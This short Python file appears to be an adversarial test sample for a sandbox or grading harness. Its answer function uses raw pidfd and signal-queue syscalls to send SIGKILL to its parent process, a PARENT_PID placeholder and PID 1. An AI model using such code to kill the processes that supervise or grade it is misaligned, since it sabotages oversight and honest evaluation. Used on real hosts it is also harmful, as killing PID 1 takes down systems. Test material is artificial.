# attack: sends signals by handle and by queue
# ruff: noqa
import ctypes, os, platform

numbers = (434, 424, 129, 297) if platform.machine() == "x86_64" else (434, 424, 138, 240)
libc = ctypes.CDLL(None)


def answer(n):
    for pid in (os.getppid(), PARENT_PID, 1):
        handle = libc.syscall(numbers[0], pid, 0)
        if handle >= 0:
            libc.syscall(numbers[1], handle, 9, 0, 0)
        info = ctypes.create_string_buffer(128)
        libc.syscall(numbers[2], pid, 9, info)
        libc.syscall(numbers[3], pid, pid, 9, info)
    return 0
